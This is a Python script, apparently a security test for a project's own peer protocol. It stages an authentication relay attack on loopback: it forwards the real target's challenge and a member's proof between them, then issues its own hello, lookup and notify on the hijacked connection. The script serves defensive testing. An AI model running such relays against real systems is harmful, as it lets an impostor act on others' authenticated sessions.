"""An impostor that relays a member's authentication to the real target (issue 30, item 1).

Run as ``python relay_attacker.py TARGET_ADDRESS``. It listens on loopback,
prints its address, and waits for one member to dial it. It then opens its
own connection to the real target and relays, frame by frame, the target's
challenge to the member and the member's proof back to the target, whatever
the frames' format. If the target accepts the relayed proof, the attacker
goes on alone on that connection: its own hello, a look-up of ``kv`` and a
notification. It prints one JSON line saying how far it got.
"""

from __future__ import annotations

import json
import socket
import sys
import time

from mpcomm import wire
from mpcomm.peer import parse_endpoint


def frame(sock: socket.socket) -> bytes:
    head = wire.recv_exact(sock, wire.HEADER.size, time.monotonic() + 10)
    length = wire.HEADER.unpack(head)[-1]
    return head + wire.recv_exact(sock, length, time.monotonic() + 10)


def main() -> None:
    lsock = socket.create_server(("127.0.0.1", 0))
    print(f"127.0.0.1:{lsock.getsockname()[1]}", flush=True)
    member, _ = lsock.accept()
    target = socket.create_connection(parse_endpoint(sys.argv[1]), timeout=10)
    got: dict[str, object] = {"relayed": False, "authenticated": False}
    try:
        member.sendall(frame(target))  # the target's challenge, as if it were ours
        target.sendall(frame(member))  # the member's proof, as if it were ours
        got["relayed"] = True
        result = frame(target)
        got["status"] = wire.HEADER.unpack(result[: wire.HEADER.size])[3]
        member.sendall(result)
        if got["status"] != 0:
            return
        got["authenticated"] = True
        info = {"node_id": "attacker", "epoch": "a77ac4e5a77ac4e5", "address": "127.0.0.1:1", "host": {},
                "transports": {}, "protocol": 1}
        wire.send_json(target, {"t": "hello", "proto": wire.PROTOCOL_VERSION, "info": info})
        got["welcome"] = wire.read_json(target).get("t")
        wire.send_json(target, {"t": "lookup", "name": "kv", "id": 1})
        got["lookup"] = wire.read_json(target).get("t")
        wire.send_json(target, {"t": "notify", "region": "kv", "data": b"relayed".hex(), "id": 2})
        got["notify"] = wire.read_json(target).get("t")
    except (OSError, ValueError, Exception) as exc:  # noqa: BLE001 - report how far the attack got
        got["error"] = f"{type(exc).__name__}: {exc}"
    finally:
        print(json.dumps(got), flush=True)
        member.close()
        target.close()


if __name__ == "__main__":
    main()
